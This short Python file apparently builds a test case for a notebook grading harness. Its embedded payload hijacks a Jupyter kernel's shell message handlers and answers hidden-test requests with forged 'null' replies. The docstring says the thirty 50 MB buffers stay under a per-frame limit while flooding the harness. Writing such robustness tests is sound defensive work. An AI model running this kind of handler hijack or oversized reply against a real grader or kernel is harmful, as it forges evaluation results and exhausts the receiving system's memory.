from cases import first

ATTACK = """
kernel = get_ipython().kernel
handlers = dict(kernel.shell_handlers)
block = bytes(50_000_000)

async def raw(stream, ident, parent):
    kernel.shell_handlers.update(handlers)
    content = {"text": "null"}
    kernel.session.send(stream, "hidden_test_reply", content, parent, ident, buffers=[block] * 30)

for name in list(kernel.shell_handlers):
    if name not in ("execute_request", "kernel_info_request"):
        kernel.shell_handlers[name] = raw
"""


def make(solved, outside):
    """A reply of thirty frames of 50 MB, each below the limit of one."""
    return first(solved, ATTACK)
